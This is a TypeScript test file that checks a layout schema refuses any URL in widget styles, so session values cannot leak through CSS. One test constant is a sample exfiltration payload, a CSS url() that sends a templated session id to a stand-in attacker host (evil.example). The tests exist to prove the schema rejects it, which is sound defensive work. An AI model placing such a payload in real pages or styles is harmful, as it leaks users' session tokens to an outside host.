/**
 * A style cannot carry a URL: every property of the style schema is a fixed word or a yes/no, so
 * a url() (with or without a session value in it) is refused by the schema on every widget that
 * takes a style, and a style property nobody declared (background, backgroundImage) is refused
 * as unknown. The only style text that can hold a URL is inside rich-text HTML, which the
 * information-flow rules read (tests/lint/infoFlow.test.ts).
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { validateLayoutDocument } from '../../src/lint/validateLayout';

const SCHEMAS = join(import.meta.dirname, '..', '..', 'schemas');
type Obj = Record<string, unknown>;
const read = (path: string) => JSON.parse(readFileSync(join(SCHEMAS, path), 'utf8')) as Obj;

const style = read('defs/style.schema.json') as { properties: Record<string, Obj> } & Obj;
const URL_TEXT = 'url(https://evil.example/p.png?s={{ query.sessionId }})';

/** The widget types whose node takes a style. */
const styled = readdirSync(join(SCHEMAS, 'widgets'))
  .map((f) => read(`widgets/${f}`) as { properties: Record<string, Obj> })
  .filter((s) => s.properties.style !== undefined)
  .map((s) => String(s.properties.type?.const));

function styleIssues(type: string, value: Obj): string[] {
  return validateLayoutDocument(
    { id: 'style', version: 1, title: 'S', body: [{ type, style: value }] },
    'fixtures/style.json',
  )
    .filter((i) => i.pointer.startsWith('/body/0/style'))
    .map((i) => `${i.pointer} ${i.code}`)
    .sort();
}

describe('styles carry no URL', () => {
  it('every style property is a closed list of words or a yes/no, and no other property is allowed', () => {
    expect(style.additionalProperties).toBe(false);
    for (const [name, prop] of Object.entries(style.properties)) {
      if (prop.type === 'boolean') continue;
      expect(prop.enum, name).toBeInstanceOf(Array);
      for (const word of prop.enum as unknown[]) expect(word, name).toMatch(/^[a-z]+$/);
    }
  });

  it.each(styled)('%s: a url() in a declared style property is refused by the schema', (type) => {
    expect(styleIssues(type, { surface: URL_TEXT, tone: URL_TEXT })).toEqual([
      '/body/0/style/surface schema',
      '/body/0/style/tone schema',
    ]);
  });

  it.each(styled)('%s: a background or backgroundImage style is refused as unknown', (type) => {
    for (const key of ['background', 'backgroundImage'])
      expect(styleIssues(type, { [key]: URL_TEXT })).toEqual(['/body/0/style schema']);
  });

  it('every widget takes a style (none is left out of the check above)', () => {
    expect(styled.length).toBe(readdirSync(join(SCHEMAS, 'widgets')).length);
  });
});
